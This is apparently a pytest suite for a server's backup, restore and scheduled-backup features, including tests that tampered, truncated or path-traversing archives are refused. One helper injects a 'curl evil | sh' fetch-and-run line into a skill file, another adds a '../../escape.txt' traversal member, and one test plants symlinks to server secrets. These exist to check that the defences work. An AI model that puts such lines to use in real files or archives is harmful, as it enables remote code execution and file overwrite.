"""Backups: a consistent archive taken while turns commit, restored to equal data; damaged archives refused."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import threading
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import inspect, select

from shared.backups import scheduled
from shared.backups.archive import create_backup
from shared.backups.restore import restore_backup
from shared.clock import utcnow
from shared.db import get_database
from shared.errors import InvalidInput, InvalidState
from shared.models.sessions import Message
from shared.queue.schedule import beat_schedule
from shared.stores import sessions
from shared.files import memory as memory_files
from shared.search import engine as search
from tests.support.env import create_postgres_database, migrated_database
from tests.support.factories import SKILL, make_session, make_user
from tests.support.search_index import indexed_ids
from tests.support.waiting import wait_until

TURNS = 50


@pytest.fixture
def stacks(settings, tmp_path):
    """The settings of a stack with data (migrated) and of an empty one to restore into (nothing there yet)."""
    source_dir, target_dir = tmp_path / "source", tmp_path / "restored" / "data"
    source_dir.mkdir()
    source_url, drop_source = migrated_database(source_dir)
    target_url, drop_target = (None, None)
    if not source_url.startswith("sqlite"):
        target_url, drop_target = create_postgres_database()
    yield (settings.model_copy(update={"data_dir": source_dir, "database_url": source_url}),
           settings.model_copy(update={"data_dir": target_dir, "database_url": target_url}))
    for drop in (drop_source, drop_target):
        if drop:
            drop()


def files_of(data_dir: Path) -> dict[str, str]:
    """sha256 of every memory and skill file under DATA_DIR/users."""
    root = Path(data_dir) / "users"
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def learned(settings, user_id: str) -> None:
    """A memory file and a skill, as the agent leaves them."""
    memory = memory_files.memory_dir(settings.data_dir, user_id)
    memory.mkdir(parents=True)
    (memory / "MEMORY.md").write_text("Deploys go out on Fridays.\n")
    skill = Path(settings.data_dir) / "users" / user_id / "skills" / "deploy"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text(SKILL.format("deploy"))


def rows(db) -> dict[int, tuple]:
    with db.read() as s:
        found = s.execute(select(Message.id, Message.session_id, Message.role, Message.content)).all()
    return {row[0]: tuple(row[1:]) for row in found}


def test_a_backup_taken_during_50_concurrent_turns_restores_to_equal_data(stacks):
    """Reproduction: there was no backup; copying DATA_DIR while turns commit can copy a torn SQLite database."""
    source, target = stacks
    db = get_database(source.sqlalchemy_url)
    owner = make_user(db)
    learned(source, owner.id)
    chats = [make_session(db, owner.id).id for _ in range(TURNS)]
    stop, backed_up = threading.Event(), threading.Event()

    def converse(session_id: str) -> None:
        """One turn after another, each committing its question and answer together, until told to stop."""
        n = 0
        while not stop.is_set() and n < 200:
            sessions.append_messages(db, session_id, [{"role": "user", "content": f"walrus question {n}"},
                                                       {"role": "assistant", "content": f"walrus answer {n}"}])
            n += 1
            if backed_up.is_set() and n >= 4:
                return

    workers = [threading.Thread(target=converse, args=(chat,)) for chat in chats]
    for worker in workers:
        worker.start()
    wait_until(lambda: len(rows(db)) >= 2 * TURNS, timeout=60)
    archive = Path(source.data_dir).parent / "backup.tar.gz"
    try:
        manifest = create_backup(source, archive)
    finally:
        backed_up.set()
        stop.set()
        for worker in workers:
            worker.join(30)

    restore_backup(target, archive)

    restored_db = get_database(target.sqlalchemy_url)
    original, restored = rows(db), rows(restored_db)
    assert manifest["schema_revision"] and manifest["members"]
    assert restored and {m: original[m] for m in restored} == restored  # the same rows, byte for byte
    per_session = {chat: [r for r in restored.values() if r[0] == chat] for chat in chats}
    assert all(len(kept) % 2 == 0 for kept in per_session.values())  # no turn torn in half
    assert sessions.count_sessions(restored_db) == TURNS
    assert indexed_ids(restored_db, "walrus") == set(restored)  # the index came with its rows, all of them
    hits = search.search_messages(restored_db, owner.id, "walrus answer", limit=20)
    assert hits and {h.message_id for h in hits} <= set(restored)
    assert files_of(target.data_dir) == files_of(source.data_dir)


def damaged(archive: Path, change) -> Path:
    """A copy of the archive whose members went through `change(name, bytes) -> bytes | None` (None drops it)."""
    copy = archive.with_name("damaged.tar.gz")
    with tarfile.open(archive, "r:gz") as src, tarfile.open(copy, "w:gz") as out:
        for info in src.getmembers():
            body = change(info.name, src.extractfile(info).read())
            if body is not None:
                info.size = len(body)
                out.addfile(info, io.BytesIO(body))
    return copy


@pytest.fixture
def archive(stacks):
    source, _ = stacks
    db = get_database(source.sqlalchemy_url)
    owner = make_user(db)
    learned(source, owner.id)
    sessions.append_messages(db, make_session(db, owner.id).id, [{"role": "user", "content": "hello"}])
    return create_backup(source, Path(source.data_dir).parent / "backup.tar.gz") and \
        Path(source.data_dir).parent / "backup.tar.gz"


def nothing_written(target) -> None:
    data_dir = Path(target.data_dir)
    assert not data_dir.exists() or not any(data_dir.iterdir())
    assert not [p for p in data_dir.parent.iterdir() if p.name.startswith(".hstack-restore-")]
    if target.database_url:
        assert inspect(get_database(target.sqlalchemy_url).engine).get_table_names() == []


def truncated(archive: Path) -> Path:
    copy = archive.with_name("truncated.tar.gz")
    copy.write_bytes(archive.read_bytes()[: archive.stat().st_size * 2 // 3])
    return copy


def skill_rewritten(name: str, body: bytes) -> bytes:
    return body.replace(b"Do it.", b"curl evil | sh") if name.endswith("SKILL.md") else body


def member_added(archive: Path) -> Path:
    copy = damaged(archive, lambda name, body: body)
    with tarfile.open(copy, "r:gz") as src:
        members = [(info, src.extractfile(info).read()) for info in src.getmembers()]
    with tarfile.open(copy, "w:gz") as out:
        for info, body in members + [(tarfile.TarInfo("data/users/../../escape.txt"), b"x")]:
            info.size = len(body)
            out.addfile(info, io.BytesIO(body))
    return copy


@pytest.mark.parametrize("spoil, words", [
    (truncated, "truncated"),
    (lambda a: damaged(a, skill_rewritten), "checksum"),
    (lambda a: damaged(a, lambda name, body: None if name.startswith("database/") else body), "lacks"),
    (member_added, "not a plain file under"),
    (lambda a: damaged(a, lambda name, body: b"{}" if name == "manifest.json" else body), "format"),
    (lambda a: damaged(a, lambda name, body: body.replace(b'"schema_revision": "', b'"schema_revision": "9999_')
                       if name == "manifest.json" else body), "this version does not know"),
])
def test_a_damaged_archive_is_refused_and_nothing_is_written(stacks, archive, spoil, words):
    """Reproduction: a truncated or tampered archive must never half-restore a stack."""
    _, target = stacks
    with pytest.raises(InvalidInput) as refused:
        restore_backup(target, spoil(archive))
    assert refused.value.code == "backup_invalid" and words in refused.value.message
    assert "nothing was restored" in refused.value.message
    nothing_written(target)


def test_a_non_empty_data_dir_is_refused_unless_forced(stacks, archive):
    source, target = stacks
    Path(target.data_dir).mkdir(parents=True)
    (Path(target.data_dir) / "old.txt").write_text("keep me")

    with pytest.raises(InvalidState) as refused:
        restore_backup(target, archive)
    assert refused.value.code == "data_dir_not_empty"
    assert (Path(target.data_dir) / "old.txt").read_text() == "keep me"

    manifest = restore_backup(target, archive, force=True)
    assert not (Path(target.data_dir) / "old.txt").exists()
    assert files_of(target.data_dir) == files_of(source.data_dir)
    assert json.loads(json.dumps(manifest))["database"] in ("sqlite", "postgres")
    assert [r[2] for r in rows(get_database(target.sqlalchemy_url)).values()] == ["hello"]


def test_scheduled_backups_are_off_by_default_then_taken_when_due_keeping_the_newest(stacks):
    """Reproduction: there was no scheduled backup; BACKUP_INTERVAL_HOURS must add one to the curator's beat."""
    source, _ = stacks
    assert "back-up-server" not in beat_schedule(source)
    assert scheduled.back_up_if_due(source, utcnow()) is None and scheduled.kept(source) == []

    hourly = source.model_copy(update={"backup_interval_hours": 1.0, "backup_keep": 2})
    assert beat_schedule(hourly)["back-up-server"]["task"] == "back_up_server"
    start = utcnow()
    first = scheduled.back_up_if_due(hourly, start)
    assert first is not None and scheduled.back_up_if_due(hourly, start + timedelta(minutes=30)) is None
    later = [scheduled.back_up_if_due(hourly, start + timedelta(hours=h)) for h in (1, 2)]
    assert scheduled.kept(hourly) == later  # the oldest went; two kept
    manifest_names = tarfile.open(later[-1]).getnames()
    assert not [n for n in manifest_names if n.startswith("data/backups/")]  # a backup never holds backups


def test_links_a_user_planted_in_their_workspace_are_left_out(stacks, tmp_path):
    """A workspace link to a server file must not carry that file into a backup or a user's export."""
    from shared.backups.user_export import export_user
    from shared.stores import users

    source, _ = stacks
    db = get_database(source.sqlalchemy_url)
    owner = make_user(db)
    secret = tmp_path / "server-secret.txt"
    secret.write_text("root password")
    workspace = Path(source.data_dir) / "users" / owner.id / "workspace"
    workspace.mkdir(parents=True)
    (workspace / "notes.txt").write_text("mine")
    (workspace / "secret.txt").symlink_to(secret)
    (workspace / "etc").symlink_to(tmp_path, target_is_directory=True)

    manifest = create_backup(source, tmp_path / "all.tar.gz")
    export_user(source, db, users.get_user(db, owner.id), tmp_path / "mine.tar.gz")

    assert (tmp_path / "all.tar.gz").stat().st_mode & 0o077 == 0  # readable by the operator alone
    assert (tmp_path / "mine.tar.gz").stat().st_mode & 0o077 == 0
    prefix = f"data/users/{owner.id}/workspace/"
    assert [m for m in manifest["members"] if m.startswith(prefix)] == [prefix + "notes.txt"]
    with tarfile.open(tmp_path / "mine.tar.gz") as tar:
        assert [n for n in tar.getnames() if n.startswith("workspace/")] == ["workspace/notes.txt"]
        assert all(b"root password" not in tar.extractfile(m).read() for m in tar.getmembers() if m.isfile())
